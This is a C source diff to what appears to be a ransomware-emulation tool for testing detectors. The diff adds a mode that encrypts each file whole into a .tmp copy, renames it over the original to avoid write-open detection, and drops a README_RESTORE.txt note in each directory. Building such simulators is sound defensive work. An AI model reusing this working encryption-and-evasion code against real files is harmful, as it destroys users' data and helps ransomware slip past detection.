@@ -266,6 +266,30 @@ static int safe_rename(const char *from, const char *to)
 	return r;
 }
 
+/* rename over an existing target file within the same directory (what a
+ * save through a temporary file does); `to` is a target already checked
+ * by open_target */
+static int rename_over(const char *from, const char *to)
+{
+	const char *b1, *b2;
+	char d1[PATH_MAX], d2[PATH_MAX];
+	split_path(from, d1, sizeof d1, &b1);
+	split_path(to, d2, sizeof d2, &b2);
+	if (strcmp(d1, d2) != 0 || strchr(b2, '/') != NULL) {
+		errno = EXDEV;
+		return -1;
+	}
+	int dfd = open_beneath(d1, O_PATH | O_DIRECTORY, 0);
+	if (dfd < 0)
+		return -1;
+	logev("rename", from);
+	int r = renameat2(dfd, b1, dfd, b2, 0);
+	int e = errno;
+	close(dfd);
+	errno = e;
+	return r;
+}
+
 static int safe_unlink(const char *rel)
 {
 	const char *b;
@@ -339,7 +363,7 @@ struct fileinfo {
 
 typedef int (*plan_fn)(const struct fileinfo *f, struct span *s);
 
-enum mode { M_INPLACE, M_NEWFILE, M_OTRUNC, M_MMAP, M_BASE64 };
+enum mode { M_INPLACE, M_NEWFILE, M_OTRUNC, M_MMAP, M_BASE64, M_RENAMEOVER };
 enum xform { X_AES, X_XORFF, X_FILLCC };
 enum extkind { E_NONE, E_FIXED, E_RANDOM_LOWER, E_RANDOM_MIXED, E_SIDEFILE };
 enum notewhere { N_NONE, N_PER_DIR, N_ROOT };
@@ -596,6 +620,9 @@ static const struct behaviour behaviours[] = {
 	{ .name = "wannacry-newfile", .family = "WannaCry",
 	  .summary = "writes <f>.WNCRYT (header WANACRY!), renames to .WNCRY, deletes the original",
 	  .plan = plan_whole, .mode = M_NEWFILE, .note = "@Please_Read_Me@.txt", .note_where = N_PER_DIR },
+	{ .name = "renameover-tmp", .family = "evasion: save through a temporary file",
+	  .summary = "writes <f>.tmp (whole file encrypted), renames it over <f>: no open for writing of the original",
+	  .plan = plan_whole, .mode = M_RENAMEOVER, .note = "README_RESTORE.txt", .note_where = N_PER_DIR },
 	{ .name = "base64-lowentropy", .family = "evasion (McIntosh 2019; Bang 2024)",
 	  .summary = "AES ciphertext base64-encoded in place (~6 bits/byte), name kept",
 	  .plan = plan_whole, .mode = M_BASE64, .note = "HOW_TO_RECOVER_FILES.txt", .note_where = N_PER_DIR },
@@ -1033,6 +1060,52 @@ static int attack_newfile(const char *rel)
 	return safe_unlink(rel);
 }
 
+/* Save through a temporary file: <f>.tmp gets the whole file encrypted,
+ * then is renamed over <f>.  The original is never opened for writing. */
+static int attack_renameover(const char *rel)
+{
+	struct stat st;
+	int in = open_target(rel, O_RDONLY, &st);
+	if (in < 0)
+		return -1;
+	char tmp[PATH_MAX];
+	if (snprintf(tmp, sizeof tmp, "%s.tmp", rel) >= (int)sizeof tmp) {
+		close(in);
+		return -1;
+	}
+	logev("create", tmp);
+	int out = open_beneath(tmp, O_WRONLY | O_CREAT | O_EXCL, 0644);
+	if (out < 0) {
+		close(in);
+		return -1;
+	}
+	struct xf x;
+	int rc = xf_init(&x, rel);
+	unsigned char *buf = malloc(IOBUF);
+	off_t o = 0;
+	while (rc == 0 && buf) {
+		ssize_t r = read_all_at(in, buf, IOBUF, o);
+		if (r <= 0) {
+			rc = r < 0 ? -1 : 0;
+			break;
+		}
+		if (xf_apply(&x, buf, (size_t)r) != 0 ||
+		    write_all_at(out, buf, (size_t)r, o) != 0)
+			rc = -1;
+		o += r;
+		atomic_fetch_add(&g_bytes, r);
+	}
+	if (!buf)
+		rc = -1;
+	free(buf);
+	xf_free(&x);
+	close(in);
+	close(out);
+	if (rc != 0)
+		return -1;
+	return rename_over(tmp, rel);
+}
+
 /* read whole file; returns malloc'd buffer */
 static unsigned char *slurp(int fd, off_t size)
 {
@@ -1126,6 +1199,7 @@ static int attack(const char *rel)
 	case M_NEWFILE: rc = attack_newfile(rel); break;
 	case M_OTRUNC: rc = attack_otrunc(rel); break;
 	case M_BASE64: rc = attack_base64(rel); break;
+	case M_RENAMEOVER: rc = attack_renameover(rel); break;
 	default: rc = attack_inplace(rel); break;
 	}
 	if (rc != 0) {
